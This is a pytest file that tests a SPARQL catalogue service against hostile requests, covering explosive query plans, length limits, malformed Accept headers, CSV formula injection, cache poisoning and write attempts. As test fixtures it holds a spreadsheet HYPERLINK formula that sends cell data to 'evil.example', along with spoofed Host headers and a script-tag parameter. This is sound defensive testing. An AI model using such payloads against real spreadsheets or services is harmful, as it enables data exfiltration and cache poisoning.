"""Hostile requests around a query: bodies, headers, walls; the rest of the table's rows are in test_queries.py."""

import json
import time
from urllib.parse import quote

import pytest
from support import queries
from support.catalogues import CatalogueForTests
from support.places import quick_folder
from support.texts import record

from catalog.graph.question import Limits, Question
from catalog.graph.workers import WorkerRun

GOOD = "SELECT (COUNT(*) AS ?n) { ?d <http://purl.org/dc/terms/abstract> ?a }"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"more")'


@pytest.fixture(scope="module")
def service():
    with quick_folder() as folder:
        made = CatalogueForTests(folder, MUNIMENT_QUERY_LENGTH="8 KiB", MUNIMENT_QUERY_BUDGET="0")
        made.load_texts(record("1", title=FORMULA), record("2"))
        yield made
        made.close()


@pytest.fixture(scope="module")
def web(service):
    return service.client()


@pytest.fixture(autouse=True)
def _goes_on(web):
    """Afterwards a good query is answered as before, at once."""
    yield
    assert b"n\r\n2\r\n" == web.get("/sparql?format=csv&query=" + quote(GOOD)).data
    started = time.monotonic()
    assert 200 == web.get("/livez").status_code
    assert time.monotonic() - started < 1


@pytest.mark.slow
def test_a_plan_that_explodes_is_ended(service):
    """
    Row 5: a short query of three hundred patterns, which the engine plans for minutes, meets the deadline.
    """
    service.configure(MUNIMENT_QUERY_TIMEOUT="0.3")
    started = time.monotonic()

    answer = service.client().get("/sparql?query=" + quote(queries.ENDLESS["a plan of a hundred patterns"][:7_900]))

    assert answer.status_code in {400, 504}
    answer = service.client().post("/sparql", data={"query": many_patterns(150)})
    assert 504 == answer.status_code
    assert "longer than 0.3 seconds" in answer.json["detail"]
    assert time.monotonic() - started < 5


def many_patterns(number):
    return "SELECT * { " + " . ".join(f"?v{n} ?p{n} ?v{n + 1}" for n in range(number)) + " }"


@pytest.mark.parametrize(("extra", "status"), [(-1, 200), (0, 200), (1, 413)])
def test_the_length_is_counted_to_the_byte_however_it_is_sent(web, extra, status):
    """
    Row 12: at the limit answered, a byte more refused; whole or in chunks.
    """
    query = "ASK {} #"
    query += "x" * (8 * 1024 + extra - len(query))

    for chunked in (False, True):
        sent = {"wsgi.input_terminated": True} if chunked else {}
        answer = web.post("/sparql", data=query, content_type="application/sparql-query", environ_overrides=sent)
        assert status == answer.status_code


@pytest.mark.parametrize(
    "accept",
    [
        ", ".join(f"text/x-{number};q=0.{number}" for number in range(2_000)),
        "*/*;q=nan",
        "text/csv;q=-1",
        "application/sparql-results+json;q=1e400",
        ",".join(["*/*"] * 5_000),
        ";" * 20_000,
        "text/" + "x" * 30_000,
        '"' * 5_000,
    ],
)
def test_no_accept_header_takes_long(web, accept):
    """
    Row 13: an answer or a refusal, soon.
    """
    started = time.monotonic()

    answer = web.get("/sparql?query=" + quote("ASK {}"), headers={"Accept": accept})

    assert answer.status_code in {200, 400, 406}
    assert time.monotonic() - started < 0.5


def test_csv_is_exact_and_for_saving(web):
    """
    Row 27: what a spreadsheet would take for a formula stays as it is, and no browser opens it.
    """
    query = 'SELECT DISTINCT ?t { ?d <http://purl.org/dc/terms/title> ?t FILTER(STRSTARTS(?t, "=")) }'

    answer = web.get("/sparql?format=csv&query=" + quote(query))

    assert 't\r\n"' + FORMULA.replace('"', '""') + '"\r\n' == answer.text
    assert 'attachment; filename="result.csv"' == answer.headers["Content-Disposition"]
    assert "nosniff" == answer.headers["X-Content-Type-Options"]


def test_no_cache_is_poisoned(web):
    """
    Row 29: what depends on Accept says so, errors are not kept, each form has its own tag, and no Host is believed.
    """
    path = "/sparql?query=" + quote(GOOD)
    answers = {
        accept: web.get(path, headers={"Accept": accept, "Host": "evil.example", "X-Forwarded-Host": "evil.example"})
        for accept in ("text/csv", "application/sparql-results+json", "text/html", "image/png")
    }
    refused = web.get("/sparql?query=SELECT&evil=<script>")

    assert all("Accept" in answer.vary for answer in answers.values())
    assert 3 == len({answers[accept].headers["ETag"] for accept in list(answers)[:3]})
    assert [406, 400] == [answers["image/png"].status_code, refused.status_code]
    assert ["no-store"] * 2 == [answer.headers["Cache-Control"] for answer in (answers["image/png"], refused)]
    for answer in (*answers.values(), refused):
        assert "evil" not in answer.text
        assert "evil" not in json.dumps(list(answer.headers.items()))


# ---------------------------------------------------------------- each wall alone


@pytest.fixture(scope="module")
def worker(service):
    """A worker to be asked directly, past the scan of the text."""
    snapshot = service.inner.layout.snapshot(service.ledger.current().number)
    made = WorkerRun(snapshot, Limits(), lambda *_: None)
    yield made
    made.kill()


@pytest.mark.parametrize("kind", queries.UPDATES)
def test_the_engine_alone_refuses_updates(worker, kind):
    """
    Rows 8 and 9: past the scan, no update is a query; not even LOAD is tried.
    """
    worker.begin(Question(query=queries.with_port(queries.UPDATES[kind], 9)), 5)
    header, body = worker.wait(5)

    assert ("syntax", b"") == (header["error"], body)


def test_the_store_alone_refuses_updates(service):
    """
    Row 9: past the scan and the grammar, the snapshot of a worker cannot be written.
    """
    import pyoxigraph

    store = pyoxigraph.Store.read_only(str(service.inner.layout.snapshot(service.ledger.current().number)))

    for update in ("INSERT DATA { <urn:a> <urn:b> 1 }", "CLEAR ALL", "DELETE WHERE { ?s ?p ?o }"):
        with pytest.raises((OSError, RuntimeError), match="read-write"):
            store.update(update)
